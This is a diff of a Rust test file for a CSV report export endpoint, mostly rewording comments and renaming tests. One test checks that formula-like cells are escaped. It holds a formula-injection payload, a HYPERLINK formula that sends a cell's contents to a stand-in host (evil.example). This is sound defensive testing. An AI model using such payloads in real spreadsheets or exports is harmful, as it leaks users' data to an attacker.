@@ -1,4 +1,4 @@
-//! GET /api/reports/export.csv, read with a CSV reader.
+//! GET /api/reports/export.csv. The tests read the file with a CSV reader.
 
 use serde_json::{Value, json};
 
@@ -67,7 +67,7 @@ on_each_engine! {
         }));
     }
 
-    /// A job has one line, however many visits and workers it has. rule: reports-export
+    /// Each job has one line, however many visits and workers it has. rule: reports-export
     async fn the_export_has_visits_workers_and_holds(engine) {
         let world = World::by_worker(engine).await;
         let zoe = world.hire("zoe").await;
@@ -86,8 +86,8 @@ on_each_engine! {
         ]);
     }
 
-    /// The period is two days in the business's time zone, both included. The name of the file has these days.
-    async fn the_export_is_limited_to_the_period(engine) {
+    /// The period is two days in the business's time zone, both included. The file name contains these days.
+    async fn the_export_has_only_the_jobs_of_the_period(engine) {
         let world = World::new(engine).await;
         for start in ["2026-11-21T12:59:59Z", "2026-11-21T13:00:00Z", "2026-11-22T12:59:59Z", "2026-11-22T13:00:00Z"] {
             world.book(json!({"title": start, "startDate": start})).await;
@@ -106,8 +106,8 @@ on_each_engine! {
         assert_eq!((read(&none).0.len(), read(&none).1.len()), (27, 0), "only the headings");
     }
 
-    /// A cell that a spreadsheet would run as a formula begins with an apostrophe.
-    async fn no_cell_of_the_export_is_run_as_a_formula(engine) {
+    /// A cell that a spreadsheet would treat as a formula begins with an apostrophe.
+    async fn no_cell_of_the_export_is_treated_as_a_formula(engine) {
         let world = World::new(engine).await;
         let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
         let client = world.admin.post("/api/clients", json!({"name": "@SUM(1+1)", "businessName": "-2+3", "phone": "+61 2 5550 0100"})).await.json;
@@ -124,7 +124,7 @@ on_each_engine! {
         assert!(!lines[0].as_object().unwrap().values().any(dangerous));
     }
 
-    /// A business with more jobs than the server reads at once. Many of the jobs start at the same time.
+    /// A business with more jobs than the server reads in one chunk. Many of the jobs have the same start.
     async fn a_long_export_is_complete_and_sent_in_chunks(engine) {
         let world = World::new(engine).await;
         let job = world.book(json!({})).await;
